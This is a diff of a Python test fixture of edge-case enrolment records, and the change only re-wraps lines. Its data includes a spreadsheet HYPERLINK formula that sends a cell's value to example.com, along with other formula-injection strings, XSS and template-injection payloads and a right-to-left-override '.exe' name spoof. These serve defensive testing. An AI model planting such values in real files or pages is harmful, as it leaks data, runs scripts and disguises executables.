@@ -31,7 +31,9 @@ def enrolled(today: date) -> list[Person]:
         ),
         _person("quotes", 'Patrick "Paddy" O\'Neill', goals='He said, "well, yes"; then: \'no\', "" and ,,', country="IE"),
         _person("emoji", "Zoë 🧑‍🚀 Astro", goals="🚀 to the moon 🌕, with my family 👨‍👩‍👧‍👦 and 🏳️‍🌈", city="🏝️", country="NZ"),
-        _person("formula", FORMULA, goals=FORMULA, city='=HYPERLINK("http://example.com/?"&A1,"click")', mailing_address="@SUM(1+1)"),
+        _person(
+            "formula", FORMULA, goals=FORMULA, city='=HYPERLINK("http://example.com/?"&A1,"click")', mailing_address="@SUM(1+1)"
+        ),
         _person("formula_plus", "+4412345678", goals="+1+1", city="-2+3", location="\t=1+1", mailing_address="\r=1+1"),
         _person("markup", "<script>alert('name')</script>", goals="<img src=x onerror=alert('goals')> &amp; <b>bold</b>"),
         _person("template", "${7*7} {{ 7*7 }}", goals="%s %(name)s {0} \\u0041 \\n"),
@@ -44,7 +46,9 @@ def enrolled(today: date) -> list[Person]:
         _person("meta_city", "Mette By", meta=json.dumps({"city": "København"}), city="Aarhus", country="DK"),
         _person("meta_city_empty", "Eve Empty", meta='{"city": ""}', city="Αθήνα", country="GR"),
         _person("meta_city_number", "Nora Number", meta='{"city": 5, "old_names": [["A", "", "2020"]]}', country="IS"),
-        _person("right_to_left", "محمد بن عبد الله الأنصاري", goals="أتعلم Python و R، ثم ‪SQL‬ (2026).", city="مراكش", country="MA"),
+        _person(
+            "right_to_left", "محمد بن عبد الله الأنصاري", goals="أتعلم Python و R، ثم ‪SQL‬ (2026).", city="مراكش", country="MA"
+        ),
         _person("hebrew_mixed", "שרה Smith-לוי", goals='ללמוד "machine learning" ב-2026!', city="ירושלים", country="IL"),
         _person("override", "Safe \u202egnp.exe", goals="\ufeffstarts with a byte order mark\u200b\u200b", country="US"),
         _person("combining", ZALGO, goals="e\u0301 is not \u00e9, but looks it"),
